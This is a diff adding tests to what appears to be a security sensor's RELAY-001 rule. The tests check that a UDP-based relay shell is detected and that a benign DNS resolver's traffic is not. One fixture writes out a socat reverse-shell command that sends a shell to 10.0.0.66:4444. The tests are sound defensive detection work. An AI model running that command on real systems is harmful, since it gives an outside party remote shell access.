@@ -264,6 +264,41 @@ describe("RELAY-001: relay shells give one finding each", () => {
   });
 });
 
+describe("RELAY-001: a UDP socket that never connects (socat UDP-SENDTO:, sendto loops)", () => {
+  // The kernel records its first send (cgroup/sendmsg4|6): fd -1, transport udp, unconnected,
+  // the remote where the datagram went. It comes after the shell's exec, once the shell writes.
+  const steps = (sent: Partial<SensorEvent>): Step[] => [
+    ...start(relay, "/usr/bin/socat", ["socat", "UDP-SENDTO:10.0.0.66:4444", "EXEC:sh"], [tty(1), tty(1), tty(1)], 1),
+    { holds: { 200: [holds(5, `sock:${SOCK}`), holds(6, "sock:22")], 201: [holds(0, "sock:21"), holds(1, "sock:21"), holds(2, "pts:1")] } },
+    ...start(shell, "/bin/sh", ["sh"], [unix(21, 22), unix(21, 22), tty(1)], 2),
+    { ...connectedOut(relay, SOCK, 3), fd: -1, transport: "udp", local: { address: "0.0.0.0", port: 40000 }, ...sent } as SensorEvent,
+  ];
+
+  it("its first send completes the relay: one finding, transport udp, the datagram's destination, marked unconnected", () => {
+    const { findings } = run(steps({ unconnected: true }));
+    expect(findings.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
+    const f = findings[0]! as unknown as Finding & { destination: unknown; network: { transport: string }; sockeye: { relay: { unconnected?: boolean; socket_inode: number; program: { name: string } } } };
+    expect(f.destination).toEqual({ ip: REMOTE.address, port: REMOTE.port });
+    expect(f.network.transport).toBe("udp");
+    expect(f.sockeye.relay).toMatchObject({ unconnected: true, socket_inode: SOCK, program: { name: "socat" } });
+  });
+
+  it("a connected UDP socket's record is not marked unconnected", () => {
+    const f = run(steps({})).findings[0]! as unknown as Finding & { sockeye: { relay: Record<string, unknown> } };
+    expect(f.sockeye.relay["unconnected"]).toBeUndefined();
+  });
+
+  it("a benign sender whose socket no shell's stdio reaches (a resolver's query): no finding", () => {
+    const resolver = proc(300, 1, "dnsmasq");
+    const { findings } = run([
+      ...start(resolver, "/usr/sbin/dnsmasq", ["dnsmasq"], [tty(1), tty(1), tty(1)], 0),
+      { holds: { 300: [holds(4, "sock:5000")] } },
+      { ...connectedOut(resolver, 5000, 1, { address: "127.0.0.53", port: 53 }), fd: -1, transport: "udp", unconnected: true },
+    ]);
+    expect(findings).toEqual([]);
+  });
+});
+
 describe("RELAY-001: structural exclusions stay silent", () => {
   it.each(notRelays.map((c) => [c.name, c] as const))("%s", (_name, c) => {
     expect(run(c.steps).findings).toEqual([]);
